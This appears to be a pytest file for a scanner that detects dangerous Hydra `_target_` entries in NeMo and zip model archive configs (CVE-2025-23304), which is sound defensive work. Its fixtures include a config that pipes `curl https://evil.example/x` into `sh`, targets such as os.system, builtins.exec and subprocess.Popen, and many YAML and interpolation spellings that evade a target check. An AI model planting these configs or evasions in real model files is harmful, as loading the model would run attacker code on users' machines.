"""Hydra `_target_` in configs inside model archives (NeMo .nemo tars, CVE-2025-23304)."""

from __future__ import annotations

import pytest
from scanhits import hits
from targen import tar_archive
from zipgen import Entry, build

from mlgate.models import hydra_configs

BENIGN = b"""sample_rate: 16000
encoder:
  _target_: nemo.collections.asr.modules.ConformerEncoder
  feat_in: 80
optim:
  name: adamw
  sched: {_target_: nemo.core.optim.lr_scheduler.CosineAnnealing, warmup_steps: 1000}
"""
EVIL = (
    BENIGN
    + b"""decoder:
  _target_: "os.system"
  command: curl https://evil.example/x | sh
preprocessor: {"_target_": 'builtins.exec.__call__', "source": "import os"}
again:
  _target_: os.system
"""
)


def test_dangerous_targets_in_a_nemo_archive_are_critical_at_the_name(scan_tree):
    scan = scan_tree({"asr.nemo": tar_archive({"./model_config.yaml": EVIL})}, select="models")
    assert hits(scan) == [
        ("MOD014", "asr.nemo", "./model_config.yaml", EVIL.index(b"os.system")),
        ("MOD014", "asr.nemo", "./model_config.yaml", EVIL.index(b"builtins.exec")),
    ]
    assert scan.messages("MOD014") == [
        "Hydra _target_ os.system is called when the model is restored (hydra.utils.instantiate): runs processes or shell commands",
        "Hydra _target_ builtins.exec is called when the model is restored (hydra.utils.instantiate): evaluates or compiles code",
    ]


def test_targets_that_resolve_another_target_by_name(scan_tree):
    """hydra.utils.call / get_method import whatever `path` names: a way round a target check."""
    config = b"hook:\n  _target_: hydra.utils.call\n  path: os.system\n  cmd: id\n"
    scan = scan_tree({"m.nemo": tar_archive({"model_config.yaml": config})}, select="models")
    assert hits(scan) == [("MOD014", "m.nemo", "model_config.yaml", config.index(b"hydra.utils.call"))]
    assert scan.messages("MOD014") == [
        "Hydra _target_ hydra.utils.call is called when the model is restored (hydra.utils.instantiate): imports modules or resolves names at load time"
    ]


def test_a_config_in_a_zip_archive(scan_tree):
    archive = build([Entry("bundle/config.yml", b"model:\n  _target_: subprocess.Popen\n")]).data
    scan = scan_tree({"bundle.zip": archive}, select="models")
    assert hits(scan) == [("MOD014", "bundle.zip", "bundle/config.yml", len(b"model:\n  _target_: "))]


def test_model_classes_and_repository_configs_are_quiet(scan_tree):
    """Configs of the repository itself are reviewed source, not part of a downloaded model."""
    scan = scan_tree({"asr.nemo": tar_archive({"./model_config.yaml": BENIGN}), "conf/train.yaml": EVIL}, select="models")
    assert (hits(scan), scan.errors) == ([], [])


def nemo_scan(scan_tree, config: bytes):
    """Scan one config as the model_config.yaml of a .nemo archive."""
    return scan_tree({"m.nemo": tar_archive({"model_config.yaml": config})}, select="models")


def critical(config: bytes, value: bytes) -> list[tuple]:
    """The one MOD014 expected, at the last place `value` is written (the target's)."""
    return [("MOD014", "m.nemo", "model_config.yaml", config.rindex(value))]


@pytest.mark.parametrize(
    ("config", "value"),
    [
        # quoted-string escapes in the key and in the value, as YAML decodes them
        (b'model:\n  "\\x5ftarget\\x5f": "o\\u0073.system"\n', b"o\\u0073"),
        (b"model: {'_target_': 'subprocess.Popen', args: [id]}\n", b"subprocess"),
        # tags only name a type: the scalar is the same string
        (b"model:\n  _target_: !!str os.system\n", b"!!str"),
        (b"model:\n  ? !!str _target_\n  : builtins.exec\n", b"builtins.exec"),
        # folded and literal block scalars
        (b"model:\n  _target_: >-\n    os.system\n", b">-"),
        (b"model:\n  _target_: |-\n    subprocess.check_output\n", b"|-"),
        # an alias to a scalar defined elsewhere: the value is the anchored scalar
        (b"names:\n  fn: &fn os.system\nmodel:\n  _target_: *fn\n", b"&fn"),
    ],
)
def test_yaml_spellings_of_a_dangerous_target(scan_tree, config, value):
    scan = nemo_scan(scan_tree, config)
    assert hits(scan) == critical(config, value)
    assert [f.severity.name for f in scan.findings] == ["CRITICAL"]


MERGED = b"""defaults: &defaults
  _target_: ${.module}.${.name}
  module: torch.nn
  name: Linear
encoder:
  <<: *defaults
  in_features: 80
decoder:
  <<: [{module: os, name: system}, *defaults]
"""


def test_merge_keys_judge_a_target_where_each_copy_lands(scan_tree):
    """`<<` copies the target into each mapping; its relative interpolations resolve there:
    the defaults (torch.nn.Linear) are fine, the decoder's earlier merge wins (os.system)."""
    scan = nemo_scan(scan_tree, MERGED)
    assert hits(scan) == critical(MERGED, b"${.module}")
    assert scan.messages("MOD014") == [
        "Hydra _target_ '${.module}.${.name}' (resolves to os.system) is called when the model is restored "
        "(hydra.utils.instantiate): runs processes or shell commands"
    ]


@pytest.mark.parametrize(
    ("config", "value", "name"),
    [
        (b"fns:\n  run: os.system\nmodel:\n  _target_: ${fns.run}\n", b"${fns.run}", "os.system"),
        (b"m: os\nf: system\nmodel:\n  _target_: ${m}.${f}\n", b"${m}", "os.system"),
        (b"m: o\nmodel:\n  _target_: ${m}s.sys${tail}\ntail: tem\n", b"${m}s", "os.system"),
        (b"pick: run\nfns: {run: subprocess.Popen}\nmodel:\n  _target_: ${fns.${pick}}\n", b"${fns.", "subprocess.Popen"),
        (b"fns: [torch.nn.Linear, builtins.eval]\nmodel:\n  _target_: ${fns.1}\n", b"${fns.1}", "builtins.eval"),
        (b"fns: [torch.nn.Linear, builtins.eval]\nmodel:\n  _target_: ${fns[1]}\n", b"${fns[1]}", "builtins.eval"),
        (b"model:\n  fn: os.popen\n  sub:\n    _target_: ${..fn}\n", b"${..fn}", "os.popen"),
        (b"a: ${b}\nb: ${c}\nc: os.system\nmodel:\n  _target_: ${a}\n", b"${a}\n", "os.system"),
        (b"model:\n  _target_: '\\${x}'\nx: os.system\n", None, None),  # an escaped interpolation is text
    ],
)
def test_interpolations_are_resolved_before_the_target_is_judged(scan_tree, config, value, name):
    scan = nemo_scan(scan_tree, config)
    if value is None:
        assert (hits(scan), scan.errors) == ([], [])
        return
    assert hits(scan) == critical(config, value)
    written = config[config.index(value) :].splitlines()[0].decode()
    assert scan.messages("MOD014")[0].startswith(f"Hydra _target_ {written!r} (resolves to {name})")


@pytest.mark.parametrize(
    ("config", "value", "severity", "message"),
    [
        (
            b"model:\n  _target_: ${oc.env:TARGET}\n",
            b"${oc",
            "HIGH",
            "Hydra _target_ '${oc.env:TARGET}' is built by interpolation mlgate cannot resolve (resolver oc.env): "
            "hydra.utils.instantiate imports and calls whatever it resolves to, which cannot be checked",
        ),
        (
            b"model:\n  _target_: os.${oc.env:FN,system}\n",
            b"os.",
            "CRITICAL",
            "Hydra _target_ 'os.${oc.env:FN,system}' is built by interpolation (resolver oc.env); whatever it resolves to, "
            "os.UNRESOLVED runs processes or shell commands",
        ),
        (b"model:\n  _target_: ${my_resolver:x}.system\n", b"${my", "CRITICAL", None),
        (b"model:\n  _target_: ${nowhere.fn}\n", b"${now", "HIGH", None),
        (b"a: ${b}\nb: ${a}\nmodel:\n  _target_: ${a}\n", b"${a}\n", "HIGH", None),
        (b"model:\n  _target_: ${...fn}\n", b"${...", "HIGH", None),
    ],
)
def test_targets_that_cannot_be_resolved_are_judged_worst(scan_tree, config, value, severity, message):
    scan = nemo_scan(scan_tree, config)
    assert hits(scan) == critical(config, value)
    assert [f.severity.name for f in scan.findings] == [severity]
    if message is not None:
        assert scan.messages("MOD014") == [message]


def test_nemo_target_keys_and_duplicate_keys(scan_tree):
    config = (
        b"target: os.system\nmodel:\n  cls: subprocess.Popen\n  params: {}\nloss:\n  target: labels\n  class: code\n"
        b"head:\n  _target_: builtins.eval\n  _target_: torch.nn.Linear\n"
    )
    scan = nemo_scan(scan_tree, config)
    assert hits(scan) == [("MOD014", "m.nemo", "model_config.yaml", config.index(name)) for name in (b"os.", b"subprocess", b"builtins")]
    assert scan.messages("MOD014")[0] == (
        "Hydra target os.system is called when the model is restored (NeMo's import_class_by_path): runs processes or shell commands"
    )


def test_benign_interpolations_are_quiet(scan_tree):
    config = b"""model:
  cls: nemo.collections.asr.models.EncDecCTCModel
  encoder:
    _target_: ${model.cls}
    lr: ${optim.lr}
    note: "\\\\${not_a_reference} ${oc.env:HOME}"
  defaults: &d {_target_: torch.nn.Linear}
  head: {<<: *d, in_features: 4}
optim: {lr: 0.1, _target_: torch.optim.Adam}
"""
    scan = nemo_scan(scan_tree, config)
    assert (hits(scan), scan.errors) == ([], [])


def test_utf16_and_bom_configs(scan_tree):
    text = "model:\n  _target_: os.system\n"
    for encoded, bom in ((b"\xff\xfe" + text.encode("utf-16-le"), 2), (b"\xef\xbb\xbf" + text.encode(), 3)):
        scan = nemo_scan(scan_tree, encoded)
        offset = bom + len(text[: text.index("os.")].encode("utf-16-le" if bom == 2 else "utf-8"))
        assert hits(scan) == [("MOD014", "m.nemo", "model_config.yaml", offset)]


def test_string_bombs_and_alias_bombs_stay_bounded(scan_tree, monkeypatch):
    """Doubling interpolations (2**40 characters) are memoised and capped; aliases that make
    2**30 places stop at the place budget, and every target is still judged once."""
    lines = [b"a0: xx"] + [b"a%d: ${a%d}${a%d}" % (i, i - 1, i - 1) for i in range(1, 41)]
    config = b"\n".join(lines) + b"\nmodel:\n  _target_: ${a40}\n"
    scan = nemo_scan(scan_tree, config)
    assert hits(scan) == critical(config, b"${a40}")
    assert scan.messages("MOD014")[0].endswith(
        "(a value longer than mlgate resolves): hydra.utils.instantiate imports and calls whatever it resolves to, which cannot be checked"
    )

    monkeypatch.setattr(hydra_configs, "MAX_PLACES", 50)
    levels = [b"l0a: &l0a {_target_: '${.f}', f: os.system}", b"l0b: &l0b {x: 1}"]
    for i in range(1, 30):
        levels += [b"l%da: &l%da [*l%da, *l%db]" % (i, i, i - 1, i - 1), b"l%db: &l%db [*l%db, *l%da]" % (i, i, i - 1, i - 1)]
    config = b"\n".join(levels) + b"\n"
    scan = nemo_scan(scan_tree, config)
    assert hits(scan) == critical(config, b"${.f}")


def test_configs_that_are_not_yaml_are_read_by_pattern(scan_tree):
    config = b"model:\n  _target_: os.system\n\t- broken: [\n"
    scan = nemo_scan(scan_tree, config)
    assert hits(scan) == critical(config, b"os.system")
